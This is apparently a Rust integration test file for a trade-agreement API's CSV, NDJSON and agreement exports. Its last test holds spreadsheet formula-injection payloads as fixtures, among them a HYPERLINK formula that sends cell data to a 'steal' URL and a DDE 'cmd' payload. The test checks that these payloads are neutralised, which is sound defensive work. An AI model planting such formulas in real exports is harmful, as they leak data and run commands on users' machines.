//! Exports: CSV and NDJSON for every collection, and one agreement's whole record.

use std::collections::HashMap;

use axum::http::{Method, StatusCode};
use serde_json::{Value, json};
use trade_agreement_api::auth::Scope;
use trade_agreement_api::export::csv_cell;
use trade_agreement_api::format::CsvCells;

use crate::helpers::{COLLECTIONS, FRAMEWORK, SOURCE_FILE, TestApp, evidence};

#[tokio::test]
async fn csv_reads_back_to_the_same_rows_as_json() {
    let app = TestApp::new().await;
    for collection in COLLECTIONS {
        let json = app.get(&format!("/api/v1/{collection}")).await.data();
        let csv = app.get(&format!("/api/v1/{collection}?format=csv")).await;
        assert_eq!(csv.status, StatusCode::OK);
        assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
        assert_eq!(
            csv.header("content-disposition"),
            Some(format!("attachment; filename=\"{collection}.csv\"").as_str())
        );

        let mut reader = csv::Reader::from_reader(&csv.body[..]);
        let headers: Vec<String> = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|record| record.unwrap().iter().map(str::to_owned).collect())
            .collect();

        assert_eq!(rows.len(), json.len(), "{collection}");
        for (row, item) in rows.iter().zip(&json) {
            let fields = item.as_object().unwrap();
            assert_eq!(
                headers,
                fields.keys().cloned().collect::<Vec<_>>(),
                "{collection}"
            );
            let expected: Vec<String> = fields
                .values()
                .map(|value| csv_cell(value, CsvCells::Neutralised))
                .collect();
            assert_eq!(row, &expected, "{collection}");
        }
    }
}

#[tokio::test]
async fn accept_headers_choose_the_export_format() {
    let app = TestApp::new().await;

    let csv = app
        .get_with("/api/v1/commitments?party=CN", &[("accept", "text/csv")])
        .await;
    let ndjson = app
        .get_with(
            "/api/v1/commitments?party=CN",
            &[("accept", "application/x-ndjson")],
        )
        .await;
    let json = app.get("/api/v1/commitments?party=CN").await.data();

    assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
    assert_eq!(csv.text().lines().count(), 1 + json.len());
    assert_eq!(ndjson.header("content-type"), Some("application/x-ndjson"));
    let lines: Vec<Value> = ndjson
        .text()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(lines, json);
}

#[tokio::test]
async fn an_export_streams_the_whole_collection_not_one_page() {
    let app = TestApp::new().await;

    let ndjson = app
        .get("/api/v1/observations?format=ndjson&sort=-slug")
        .await;
    let json = app.get("/api/v1/observations?sort=-slug").await.data();

    let slugs: Vec<String> = ndjson
        .text()
        .lines()
        .map(|line| {
            serde_json::from_str::<Value>(line).unwrap()["slug"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    let expected: Vec<String> = json
        .iter()
        .map(|item| item["slug"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(slugs, expected);
    // `limit` sizes JSON pages; an export is every item whatever it says.
    let limited = app
        .get("/api/v1/observations?format=ndjson&sort=-slug&limit=2")
        .await;
    assert_eq!(limited.text().lines().count(), expected.len());
}

#[tokio::test]
async fn the_agreement_export_holds_the_whole_record_and_its_source() {
    let app = TestApp::new().await;

    let response = app
        .get(&format!("/api/v1/agreements/{FRAMEWORK}/export"))
        .await;

    assert_eq!(response.status, StatusCode::OK);
    assert_eq!(
        response.header("content-disposition"),
        Some(format!("attachment; filename=\"{FRAMEWORK}.json\"").as_str())
    );
    let document = response.json();
    let included = &document["agreement"]["included"];
    for collection in [
        "parties",
        "rounds",
        "commitments",
        "observations",
        "sources",
    ] {
        assert!(
            !included[collection].as_array().unwrap().is_empty(),
            "{collection}"
        );
    }
    assert_eq!(document["timeline"].as_array().unwrap().len(), 6);
    assert_eq!(document["source_texts"][0]["text"], SOURCE_FILE);
    app.get("/api/v1/agreements/none/export")
        .await
        .problem(StatusCode::NOT_FOUND);
}

/// The rows of a CSV answer as maps from column name to cell.
fn csv_rows(body: &[u8]) -> Vec<HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(body);
    let headers = reader.headers().unwrap().clone();
    reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            headers
                .iter()
                .map(str::to_owned)
                .zip(record.iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

#[tokio::test]
async fn csv_text_a_spreadsheet_would_run_is_neutralised_unless_raw_values_are_asked_for() {
    let app = TestApp::new().await;
    let writer = app.token("alice", Scope::Write).await;
    let formulas = [
        "=HYPERLINK(\"https://example.org/steal?x=\"&A1,\"details\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ];
    for (index, formula) in formulas.iter().enumerate() {
        let created = app
            .write(
                Method::POST,
                &format!("/api/v1/agreements/{FRAMEWORK}/observations"),
                Some(&writer),
                &json!({"slug": format!("formula-{index}"), "kind": "market_reaction",
                        "attributed_to": formula, "summary": formula,
                        "evidence": evidence("Financial markets reacted modestly")}),
            )
            .await;
        assert_eq!(created.status, StatusCode::CREATED, "{}", created.text());
    }

    let neutralised = app.get("/api/v1/observations?format=csv").await;
    let raw = app
        .get("/api/v1/observations?format=csv&csv_raw=true")
        .await;
    let negotiated = app
        .get_with(
            "/api/v1/observations?csv_raw=true",
            &[("accept", "text/csv")],
        )
        .await;

    let by_slug = |rows: Vec<HashMap<String, String>>| -> HashMap<String, HashMap<String, String>> {
        rows.into_iter()
            .map(|row| (row["slug"].clone(), row))
            .collect()
    };
    let neutralised_rows = by_slug(csv_rows(&neutralised.body));
    let raw_rows = by_slug(csv_rows(&raw.body));
    for (index, formula) in formulas.iter().enumerate() {
        let slug = format!("formula-{index}");
        for column in ["summary", "attributed_to"] {
            assert_eq!(neutralised_rows[&slug][column], format!("'{formula}"));
            assert_eq!(raw_rows[&slug][column], *formula);
        }
    }
    for row in neutralised_rows.values() {
        for cell in row.values() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
    assert_eq!(negotiated.body, raw.body);
    // Two representations: their ETags differ, and one never revalidates the other.
    let (neutral_tag, raw_tag) = (
        neutralised.header("etag").expect("an ETag"),
        raw.header("etag").expect("an ETag"),
    );
    assert_ne!(neutral_tag, raw_tag);
    let revalidated = app
        .get_with(
            "/api/v1/observations?format=csv&csv_raw=true",
            &[("if-none-match", neutral_tag)],
        )
        .await;
    assert_eq!(revalidated.status, StatusCode::OK);
    assert_eq!(revalidated.body, raw.body);
    let again = app.get("/api/v1/observations?format=csv").await;
    assert_eq!(again.body, neutralised.body);

    // JSON is always exact: `csv_raw` changes nothing there.
    let json_raw = app.get("/api/v1/observations?csv_raw=true").await;
    assert_eq!(json_raw.status, StatusCode::OK);
    let json = app.get("/api/v1/observations").await;
    assert_eq!(json_raw.body, json.body);
}
